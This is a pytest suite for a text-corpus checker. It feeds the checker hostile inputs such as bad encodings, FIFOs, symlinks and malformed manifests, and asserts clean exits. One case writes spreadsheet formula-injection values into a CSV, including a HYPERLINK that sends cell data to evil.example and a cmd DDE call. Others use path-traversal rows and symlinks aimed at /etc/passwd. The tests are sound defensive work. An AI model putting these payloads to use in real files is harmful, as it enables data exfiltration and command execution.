"""Hostile corpora: every case ends in a finding or a one-line error, never a traceback.

Each case builds a corpus folder, runs the real command line in a subprocess
(``corpuscheck build CORPUS --out OUT``) over an earlier output, and checks:

* the exit status is the documented one (README, "Exit status"), and a
  status 2 comes with one line on standard error, a status 0 or 1 with the
  expected finding in the JSON view;
* no traceback, whatever happens;
* the corpus folder is byte for byte what it was (names, kinds, modes and
  contents, links and FIFOs included: it is hashed before and after);
* the earlier output is either untouched (status 2) or replaced by a whole
  new one (a package whose zip opens, a report), and nothing is left beside it.

The README's table of hostile inputs is this matrix; a case added here belongs
there too. The slow checks (language and translation) are disabled where the
case is about reading or writing, not about text: their speed is measured by
``benchmarks/``, and the fuzz tests run them on any text.
"""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import random
import resource
import signal
import stat
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from corpuscheck.publish import OUTPUT_NAMES
from tests.conftest import MANIFEST_HEADER

TEXT = (
    "Le gouvernement a annoncé lundi une série de mesures pour soutenir les agriculteurs. "
    "Le ministre a précisé que les aides seraient versées avant la fin de l'année.\n"
)
FAST = ("--jobs", "1", "--disable", "language", "--disable", "translation")
"""Checks left out where the case is about reading or writing, not about text."""

IS_ROOT = os.geteuid() == 0


@dataclass
class Case:
    """What a case expects: the exit status and a finding rule or an error message."""

    status: int | tuple[int, ...]
    rules: tuple[str, ...] = ()
    message: str = ""
    args: tuple[str, ...] = FAST
    out: Path | None = None
    as_user: bool = False
    preexec: Callable[[], None] | None = None
    absent: tuple[str, ...] = ()
    """Strings that must appear nowhere in the output (the contents of a file outside)."""
    check: Callable[[dict], None] | None = None
    timeout: int = 600
    extra: dict = field(default_factory=dict)


def manifest(root: Path, body: str | bytes) -> None:
    data = body.encode("utf-8") if isinstance(body, str) else body
    (root / "metadata.csv").write_bytes(data)


def rows(*names: str) -> str:
    return MANIFEST_HEADER + "".join(f"{n},fr,,,,,,\n" for n in names)


def plain(root: Path, *names: str) -> None:
    for name in names:
        (root / name).write_text(TEXT, encoding="utf-8")


def without_dac_override() -> None:
    """Run as root without the right to ignore file permissions (as a user would)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "cannot drop a capability")


def small_files(limit: int) -> Callable[[], None]:
    """Files may not grow past ``limit`` bytes: writing more fails with EFBIG, as on a full disk."""

    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


# --- the cases: each writes into the corpus folder and says what it expects ---------------


def invalid_utf8(root: Path, work: Path) -> Case:
    (root / "latin1.txt").write_bytes(TEXT.encode("latin-1", errors="replace"))
    manifest(root, rows("latin1.txt"))

    def one_per_line(report: dict) -> None:
        found = [f for f in report["findings"] if f["rule"] == "encoding.invalid_utf8"]
        assert len(found) == 1  # one damaged line, one finding
        assert found[0]["evidence"]["bytes"] == sum(not c.isascii() for c in TEXT)

    return Case(1, ("encoding.invalid_utf8",), check=one_per_line)


def latin1_flood(root: Path, work: Path) -> Case:
    (root / "long.txt").write_bytes(TEXT.encode("latin-1") * 300)
    manifest(root, rows("long.txt"))

    def capped(report: dict) -> None:
        found = [f for f in report["findings"] if f["rule"] == "encoding.invalid_utf8"]
        assert len(found) == 50
        assert found[-1]["evidence"]["omitted"] == 250

    return Case(1, ("encoding.invalid_utf8",), check=capped)


def utf16_bom(root: Path, work: Path) -> Case:
    (root / "u16.txt").write_bytes(TEXT.encode("utf-16"))
    manifest(root, rows("u16.txt"))
    return Case(1, ("encoding.not_utf8",), check=only_finding("u16", "encoding.not_utf8"))


def utf16_no_bom(root: Path, work: Path) -> Case:
    (root / "u16.txt").write_bytes(TEXT.encode("utf-16-le"))
    manifest(root, rows("u16.txt"))
    return Case(1, ("encoding.not_utf8",), check=only_finding("u16", "encoding.not_utf8"))


def utf32(root: Path, work: Path) -> Case:
    (root / "u32.txt").write_bytes(TEXT.encode("utf-32"))
    manifest(root, rows("u32.txt"))
    return Case(1, ("encoding.not_utf8",), check=only_finding("u32", "encoding.not_utf8"))


def binary(root: Path, work: Path) -> Case:
    (root / "noise.txt").write_bytes(random.Random(11).randbytes(200_000))
    manifest(root, rows("noise.txt"))
    return Case(1, ("structure.binary",), check=only_finding("noise", "structure.binary"))


def empty(root: Path, work: Path) -> Case:
    (root / "empty.txt").write_bytes(b"")
    manifest(root, rows("empty.txt"))
    return Case(1, ("structure.empty",))


def whitespace_only(root: Path, work: Path) -> Case:
    (root / "blank.txt").write_bytes(b" \n\t\r\n  \n")
    manifest(root, rows("blank.txt"))
    return Case(1, ("structure.empty",))


def nul_bytes(root: Path, work: Path) -> Case:
    (root / "nul.txt").write_bytes(TEXT.replace("lundi", "lun\x00di").encode())
    manifest(root, rows("nul.txt"))
    return Case(1, ("encoding.control_character",))


def one_line_20mb(root: Path, work: Path) -> Case:
    line = TEXT.replace("\n", " ").encode()
    (root / "big.txt").write_bytes(line * (20 * 1024 * 1024 // len(line)) + b"\n")
    manifest(root, rows("big.txt"))

    def read_and_checked(report: dict) -> None:
        assert report["documents"] == 1
        assert not any(f["rule"] == "structure.too_large" for f in report["findings"])

    return Case((0, 1), check=read_and_checked, timeout=1800)


def sparse_1gb(root: Path, work: Path) -> Case:
    with open(root / "sparse.txt", "wb") as f:
        f.truncate(1 << 30)  # one gigabyte of holes: no disk used, and nothing may read it
    plain(root, "a.txt")
    manifest(root, rows("a.txt", "sparse.txt"))
    return Case(1, ("structure.too_large",), timeout=120)


def symlink_inside(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    os.symlink("a.txt", root / "b.txt")
    manifest(root, rows("a.txt", "b.txt"))
    return Case(1, ("structure.unreadable",))


def symlink_outside(root: Path, work: Path) -> Case:
    secret = work / "secret.txt"
    secret.write_text("SECRET-TOKEN-123 ne doit jamais être publié\n", encoding="utf-8")
    plain(root, "a.txt")
    os.symlink(secret, root / "p.txt")
    os.symlink("/etc/passwd", root / "passwd.txt")
    manifest(root, rows("a.txt", "p.txt", "passwd.txt"))
    return Case(1, ("structure.unreadable",), absent=("SECRET-TOKEN-123", "root:x:0"))


def symlinked_corpus(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    link = work / "linked"
    os.symlink(root, link)
    return Case(2, message="is a symbolic link", extra={"corpus": link})


def fifo(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    os.mkfifo(root / "pipe.txt")  # nothing writes to it: opening it must not block
    manifest(root, rows("a.txt", "pipe.txt"))
    return Case(1, ("structure.unreadable",), timeout=120)


def device(root: Path, work: Path) -> Case:
    if not IS_ROOT:
        pytest.skip("making a device node needs root")
    plain(root, "a.txt")
    os.mknod(root / "zero.txt", stat.S_IFCHR | 0o644, os.makedev(1, 5))  # /dev/zero
    manifest(root, rows("a.txt", "zero.txt"))
    return Case(1, ("structure.unreadable",), timeout=120)


def unreadable_file(root: Path, work: Path) -> Case:
    plain(root, "a.txt", "locked.txt")
    (root / "locked.txt").chmod(0)
    manifest(root, rows("a.txt", "locked.txt"))

    def permission(report: dict) -> None:
        [found] = [f for f in report["findings"] if f["rule"] == "structure.unreadable"]
        assert "Permission denied" in found["message"]

    return Case(1, ("structure.unreadable",), as_user=True, check=permission)


def name_with_spaces(root: Path, work: Path) -> Case:
    plain(root, "un document.txt")
    manifest(root, rows('"un document.txt"'))
    return Case((0, 1), check=documents("un document"))


def name_with_newline(root: Path, work: Path) -> Case:
    plain(root, "deux\nlignes.txt", "a.txt")
    manifest(root, rows('"deux\nlignes.txt"', "a.txt"))
    return Case((0, 1), check=documents("deux\nlignes", "a"))


def name_with_dots(root: Path, work: Path) -> Case:
    plain(root, "..cache.txt", "a..b.txt")
    manifest(root, rows("..cache.txt", "a..b.txt"))
    return Case((0, 1), check=documents("..cache", "a..b"))


def normalisation_twins(root: Path, work: Path) -> Case:
    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    (root / f"{nfc}.txt").write_text(TEXT, encoding="utf-8")
    (root / f"{nfd}.txt").write_text(TEXT.replace("lundi", "mardi"), encoding="utf-8")
    manifest(root, rows(f"{nfc}.txt", f"{nfd}.txt"))
    return Case((0, 1), check=documents(nfc, nfd))


def manifest_bom(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, b"\xef\xbb\xbf" + rows("a.txt").encode())
    return Case((0, 1), check=no_rule("metadata.manifest_unreadable", "metadata.missing_row"))


def manifest_crlf(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt").replace("\n", "\r\n"))
    return Case((0, 1), check=no_rule("metadata.manifest_unreadable", "metadata.missing_row"))


def manifest_bad_quoting(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, MANIFEST_HEADER + 'a.txt,fr,"un titre jamais fermé,,,,,\n')
    return Case(1, ("metadata.manifest_unreadable",))


def manifest_duplicate_columns(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, MANIFEST_HEADER.replace("title", "language") + "a.txt,fr,en,,,,,\n")
    return Case(1, ("metadata.manifest_columns",))


def manifest_no_header(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, "a.txt,fr,Un titre,Le Monde,,,,\n")
    return Case(1, ("metadata.manifest_unreadable",))


def manifest_huge_field(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, MANIFEST_HEADER + "a.txt,fr," + "x" * 300_000 + ",,,,,\n")
    return Case(1, ("metadata.manifest_unreadable",))


def manifest_formulas(root: Path, work: Path) -> Case:
    plain(root, "a.txt", "b.txt")
    manifest(
        root,
        MANIFEST_HEADER
        + 'a.txt,fr,"=HYPERLINK(""http://evil.example/?q=""&A1,""Lire"")",Le Monde,,,,\n'
        + "b.txt,fr,Un titre,=cmd|' /C calc'!A0,,,,\n",
    )

    def quoted_in_csv(report: dict) -> None:
        text = (report["_out"] / "data" / "documents.csv").read_text(encoding="utf-8")
        assert "'=cmd|" in text and ",=cmd|" not in text

    return Case(0, ("metadata.spreadsheet_formula",), check=quoted_in_csv)


def manifest_path_traversal(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt", "../../etc/passwd", "/etc/shadow"))
    return Case(1, ("metadata.orphan_row",), absent=("root:x:0",))


def manifest_symlink(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    os.symlink("/etc/passwd", root / "metadata.csv")
    return Case(1, ("metadata.manifest_unreadable",), absent=("root:x:0",))


def folder_named_txt(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    (root / "x.txt").mkdir()
    (root / "x.txt" / "inside.txt").write_text(TEXT, encoding="utf-8")
    manifest(root, rows("a.txt", "x.txt"))
    return Case(1, ("structure.unreadable",))


def out_is_corpus(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    return Case(2, message="--out must not be the corpus folder", out=root)


def out_inside_corpus(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    return Case(2, message="--out must not be the corpus folder", out=root / "dist")


def out_holds_other_files(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    project = work / "project"
    project.mkdir()
    (project / "notes.md").write_text("mes notes\n", encoding="utf-8")
    return Case(2, message="holds files a build does not write", out=project)


def read_only_out_parent(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    parent = work / "readonly"
    parent.mkdir()
    parent.chmod(0o555)
    return Case(2, message="cannot write", out=parent / "out", as_user=True)


def disk_full(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    return Case(2, message="cannot write", preexec=small_files(16_000))


def missing_corpus(root: Path, work: Path) -> Case:
    return Case(2, message="corpus folder not found", extra={"corpus": work / "nowhere"})


def corpus_is_a_file(root: Path, work: Path) -> Case:
    (work / "file.txt").write_text(TEXT, encoding="utf-8")
    return Case(2, message="is a file that is not JSONL", extra={"corpus": work / "file.txt"})


def bad_option(root: Path, work: Path) -> Case:
    plain(root, "a.txt")
    manifest(root, rows("a.txt"))
    return Case(2, message="not a size in bytes", args=(*FAST, "--max-document-bytes", "lots"))


CASES = [
    invalid_utf8,
    latin1_flood,
    utf16_bom,
    utf16_no_bom,
    utf32,
    binary,
    empty,
    whitespace_only,
    nul_bytes,
    one_line_20mb,
    sparse_1gb,
    symlink_inside,
    symlink_outside,
    symlinked_corpus,
    fifo,
    device,
    unreadable_file,
    name_with_spaces,
    name_with_newline,
    name_with_dots,
    normalisation_twins,
    manifest_bom,
    manifest_crlf,
    manifest_bad_quoting,
    manifest_duplicate_columns,
    manifest_no_header,
    manifest_huge_field,
    manifest_formulas,
    manifest_path_traversal,
    manifest_symlink,
    folder_named_txt,
    out_is_corpus,
    out_inside_corpus,
    out_holds_other_files,
    read_only_out_parent,
    disk_full,
    missing_corpus,
    corpus_is_a_file,
    bad_option,
]


# --- what every case is held to ---------------------------------------------------------------


def only_finding(doc_id: str, rule: str) -> Callable[[dict], None]:
    """The document gives that one finding and no other: its text was not checked."""

    def check(report: dict) -> None:
        about = [f["rule"] for f in report["findings"] if f["doc_id"] == doc_id]
        assert about == [rule], about

    return check


def documents(*ids: str) -> Callable[[dict], None]:
    def check(report: dict) -> None:
        assert report["documents"] == len(ids)
        published = (report["_out"] / "data" / "documents.csv").read_text(encoding="utf-8")
        for doc_id in ids:
            assert doc_id.replace("\n", "") in published.replace("\n", "")

    return check


def no_rule(*rules: str) -> Callable[[dict], None]:
    def check(report: dict) -> None:
        assert not {f["rule"] for f in report["findings"]} & set(rules)

    return check


def fingerprint(folder: Path) -> dict[str, tuple]:
    """Every entry under ``folder``: kind, mode and, for regular files, a hash of the bytes."""
    if not os.path.lexists(folder):
        return {}
    seen: dict[str, tuple] = {}
    for top, dirs, files in os.walk(folder, followlinks=False):
        for name in sorted([*dirs, *files]):
            path = Path(top) / name
            info = os.lstat(path)
            entry: tuple = (stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode), info.st_size)
            if stat.S_ISREG(info.st_mode) and info.st_mode & 0o444 and info.st_size < 1 << 26:
                entry += (hashlib.sha256(path.read_bytes()).hexdigest(),)
            elif stat.S_ISLNK(info.st_mode):
                entry += (os.readlink(path),)
            seen[str(path.relative_to(folder))] = entry
    return seen


def previous_output(out: Path) -> None:
    """An earlier build's folder (what a build writes, with made-up contents)."""
    out.mkdir(parents=True)
    for name in sorted(OUTPUT_NAMES):
        if name in ("data", "expectations"):
            (out / name).mkdir()
            (out / name / "previous.txt").write_text("from the previous build\n")
        else:
            (out / name).write_text(f"previous {name}\n", encoding="utf-8")


def whole_output(out: Path) -> None:
    """A complete package: its descriptor, its zip (which opens), its report."""
    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["resources"]
    with zipfile.ZipFile(out / "corpus.zip") as archive:
        assert archive.testzip() is None
    assert (out / "report.html").read_text(encoding="utf-8").rstrip().endswith("</html>")
    assert not (out / "data" / "previous.txt").exists()


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    # Traversable by a process without the right to override permissions.
    tmp_path.chmod(0o755)
    return tmp_path


@pytest.mark.parametrize("make", CASES, ids=[c.__name__ for c in CASES])
def test_hostile_input(make: Callable[[Path, Path], Case], workspace: Path) -> None:
    root = workspace / "corpus"
    root.mkdir()
    case = make(root, workspace)
    corpus = case.extra.get("corpus", root)
    out = case.out or workspace / "out"
    if case.out is None:
        previous_output(out)
    elif case.out.parent.exists() and not case.out.exists() and os.access(case.out.parent, 2):
        previous_output(case.out)
    corpus_before = fingerprint(root)
    out_before = fingerprint(out) if not out.is_relative_to(root) else {}

    preexec = case.preexec
    if case.as_user and IS_ROOT:
        preexec = without_dac_override
    command = [sys.executable, "-m", "corpuscheck", "build", str(corpus), "--out", str(out)]
    command += [*case.args, "--output-format", "json", "--quiet"]
    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_ACTIONS", "CORPUSCHECK_DEBUG")}
    done = subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=case.timeout,
        preexec_fn=preexec,
        env=env,
        cwd=workspace,
        check=False,
    )
    if (workspace / "readonly").exists():
        (workspace / "readonly").chmod(0o755)  # so that the workspace can be removed

    expected = case.status if isinstance(case.status, tuple) else (case.status,)
    assert done.returncode in expected, done.stderr[-3000:]
    assert "Traceback" not in done.stderr + done.stdout
    if root.exists():
        assert fingerprint(root) == corpus_before, "the corpus folder was written"
    if done.returncode == 2:
        message = done.stderr.strip()
        assert message.startswith("corpuscheck: ") or message.startswith("usage: "), message
        assert case.message in message
        assert len(message.splitlines()) == 1 or message.startswith("usage: ")
        if out_before:
            assert fingerprint(out) == out_before, "the previous output was damaged"
    else:
        report = json.loads(done.stdout)
        report["_out"] = out
        rules = {f["rule"] for f in report["findings"]}
        assert set(case.rules) <= rules, sorted(rules)
        whole_output(out)
        for secret in case.absent:
            for path in out.rglob("*"):
                if path.is_file() and path.suffix in (".csv", ".json", ".html", ".md"):
                    assert secret not in path.read_text(encoding="utf-8", errors="replace")
        if case.check is not None:
            case.check(report)
    leftovers = sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))
    assert leftovers == [], leftovers


def test_the_readme_lists_what_each_hostile_input_gives() -> None:
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Hostile input and exit status", 1)[1].split("\n### ", 1)[0]
    rules = [
        "encoding.invalid_utf8",
        "encoding.not_utf8",
        "structure.binary",
        "structure.empty",
        "encoding.control_character",
        "structure.too_large",
        "structure.unreadable",
        "metadata.manifest_unreadable",
        "metadata.manifest_columns",
        "metadata.spreadsheet_formula",
        "metadata.orphan_row",
    ]
    for rule in rules:
        assert f"`{rule}`" in section, rule
    assert "exit `2`" in section
